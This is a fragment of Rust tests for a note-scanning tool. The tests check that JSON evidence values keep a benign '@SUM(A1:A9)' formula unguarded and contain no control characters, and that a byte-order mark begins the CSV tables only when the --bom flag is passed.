        let evidence: Vec<&str> = rows.iter().filter_map(|r| r["evidence"].as_str()).collect();
        assert!(
            evidence.iter().any(|e| e.starts_with("@SUM(A1:A9)")),
            "{evidence:?}"
        );
        for row in &rows {
            for value in row.as_object().expect("an object").values() {
                if let Some(v) = value.as_str() {
                    assert!(!v.starts_with('\''), "guarded JSON value {v:?}");
                    assert!(!v.chars().any(|c| c == '\u{202E}' || c == '\u{7}'), "{v:?}");
                }
            }
        }
    }
}

#[test]
fn bom_starts_each_csv_table_only_when_asked() {
    let case = Case::new();
    let run = case.scan(&["notes", "--bom"]);
    assert_eq!(run.code, 0);
    for table in [&run.candidates, &run.flags] {
        assert!(table.starts_with('\u{FEFF}'), "{table:?}");
        assert!(table[3..].starts_with("client,"));
    }
    let run = case.scan_notes();
    assert!(run.candidates.starts_with("client,"));
}
